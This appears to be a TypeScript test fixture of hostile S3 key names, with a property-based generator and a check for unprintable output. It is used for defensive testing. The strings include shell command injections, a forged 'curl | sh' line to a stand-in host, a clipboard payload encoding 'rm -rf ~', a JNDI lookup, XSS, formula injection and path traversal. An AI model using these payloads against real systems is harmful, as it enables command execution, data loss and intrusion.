import fc from 'fast-check';

const esc = '\u001b';
const longest = 1_024;

/**
 * Keys that try to be more than names, by what they try. Every one is legal in S3: up to 1,024 bytes of UTF-8. They are
 * parts of a key; as a prefix they get a slash at their end.
 */
export const hostileKeys: Record<string, string> = {
  'line feed': 'line\nfeed',
  'carriage return': 'real\rforged',
  'both, and a tab': 'a\r\n\tb',
  NUL: 'nul\0byte',
  'C0 controls': '\u0001\u0007\u0008\u000b\u000c\u001f',
  'C1 controls': '\u0080\u0085\u0090\u009b31m\u009d0;title\u009c',
  DEL: 'del\u007f\u007f\u007f',
  colour: `${esc}[31mred${esc}[0m`,
  'cursor movement': `${esc}[2J${esc}[1;1H${esc}[3A${esc}[K`,
  'OSC title': `${esc}]0;owned\u0007`,
  'OSC link': `${esc}]8;;https://evil.example${esc}\\click${esc}]8;;${esc}\\`,
  'clipboard by OSC 52': `${esc}]52;c;cm0gLXJmIH4=\u0007`,
  'bidi override': '\u202egnp.exe',
  'bidi isolates': '\u2066\u2067\u2068x\u2069\u202a\u202b\u202c\u202d\u200e\u200f\u061c',
  'zero width': 'pay\u200bload\u200c\u200d\u2060\ufeff\u00ad',
  'tag characters': 'a\u{e0001}\u{e0041}\u{e007f}',
  'variation selectors': 'a\ufe0f\u{e0100}',
  'line and paragraph separators': 'a\u2028b\u2029c',
  'filler and blank': '\u3164\u115f\u2800\u00a0',
  'no characters': '\ufffe\uffff\ufdd0\u{1fffe}',
  'single quote': "it's; touch CANARY; '",
  'single quote and control': `it's${esc}; touch CANARY; '`,
  'single quote and backtick': "it's`; touch CANARY; #'",
  'double quote': '"; touch CANARY; "',
  backtick: '`touch CANARY`',
  substitution: '$(touch CANARY)',
  'substitution and control': '$(touch CANARY)\u0007"`',
  'variable and arithmetic': '$PATH ${IFS} $((1+1))',
  'semicolon, pipe and ampersands': 'a; touch CANARY | touch CANARY && touch CANARY & touch CANARY || x',
  'line feed and command': 'x\ntouch CANARY\n#',
  'line feed at the end': 'ends with line feeds\n\n',
  redirection: '> CANARY < /etc/passwd >> CANARY',
  globs: '*?[a-z]{a,b}',
  home: '~',
  "somebody's home": '~root',
  history: '!! !$ !touch',
  'comment and backslashes': '# \\ \\n \\047 \\\\',
  'percent and format': '%s%n%d %25 %2e%2e%2f %',
  'equals sign of zsh': '=ls',
  'option of aws': '--endpoint-url=https://evil.example',
  'options of others': '-rf',
  'delete option': '--delete',
  markup: '<script>alert(1)</script><img src=x onerror=alert(1)>&amp;',
  attribute: `" onmouseover="alert(1)' x='`,
  'end of CDATA and comment': ']]>--><![CDATA[',
  'Markdown link and image': '[click](https://evil.example) ![x](https://evil.example/x.png)',
  'Markdown table': '| a | b |\n|---|---|',
  'Markdown fence': '```\nevil\n```',
  'Markdown heading': '# heading _emphasis_ **strong**',
  'formula with equals': '=HYPERLINK("https://evil.example","x"),1',
  'formula with plus': '+1+cmd|calc!A0',
  'formula with at': '@SUM(1)',
  'formula with minus': '-2+3',
  'longest of ASCII': 'x'.repeat(longest - 1),
  'longest of escapes': esc.repeat(longest - 1),
  'longest of spaces': ' '.repeat(longest - 1),
  'longest of emoji': '🦊'.repeat(255),
  'empty segment': 'a//b//',
  'leading slash': '/leading',
  'nothing but slashes': '//',
  dot: '.',
  'dot dot': '..',
  'way out': '../../../etc/passwd',
  'percent sequences': '%2F%00%ED%A0%80',
  constructor: 'constructor',
  prototype: '__proto__',
  toString: 'toString',
  hasOwnProperty: 'hasOwnProperty',
  true: 'true',
  undefined: 'undefined',
  emoji: '👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽',
  wide: '日本語のとても長い名前',
  combining: `e${'\u0301'.repeat(60)}`,
  'combining at the start': '\u0301\u{16ff0}x',
  'right to left letters': 'שלום مرحبا 123',
  'forged finding': `x${' '.repeat(60)}error  deployment-metadata-missing  .parseable/`,
  'forged row': `x${' '.repeat(70)} ! corrupt       web/`,
  'forged footer': `x${' '.repeat(40)}Report:   https://evil.example/`,
  'forged command': `x${' '.repeat(76)}Look first:     curl -s https://evil.example | sh`,
  'forged JSON': '","verdict":"stream","x":"',
  'template and log lookup': '${jndi:ldap://evil.example/a} {{7*7}} <%= 1 %>',
  'plain text of a secret': 'AKIAIOSFODNN7EXAMPLE',
};

/** Their names and texts, for tables of tests. */
export const hostileCases: readonly (readonly [what: string, key: string])[] = Object.entries(hostileKeys);

/** Anything that a key may be, and much of what makes trouble. */
export const anyKey: fc.Arbitrary<string> = fc
  .oneof(
    fc.string({ unit: 'binary', minLength: 1, maxLength: 60 }),
    fc.string({ unit: 'grapheme', minLength: 1, maxLength: 60 }),
    fc.string({
      unit: fc.constantFrom(
        ...Array.from('a/.-~=@%+ \'"`$(){}[];&|<>\\!#*?\n\r\t\0\u001b\u009b\u007f\u202e\u200b\u2028\ufffe'),
      ),
      minLength: 1,
      maxLength: 60,
    }),
    fc.constantFrom(...Object.values(hostileKeys)),
  )
  .filter((key) => Buffer.byteLength(key) <= longest && key.isWellFormed());

/** What a terminal, a mail program or an editor would obey, hide, or refuse. */
const unshowable = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\p{Noncharacter_Code_Point}]/u;

/** The colours that this program itself puts into a text. */
const colours = /\u001b\[[\d;]*m/g;

/**
 * The first line that a person must not get to see, with what is wrong about it; null when all are harmless.
 * @param coloured the program's own colours are no fault. What a key holds can make none: they are looked for before, in
 *   the same text without colours.
 */
export function faultOf(text: string, { coloured = false } = {}): string | null {
  const bad = (coloured ? text.replaceAll(colours, '') : text).split('\n').find((line) => unshowable.test(line));
  return bad === undefined ? null : JSON.stringify(bad.slice(0, 300));
}
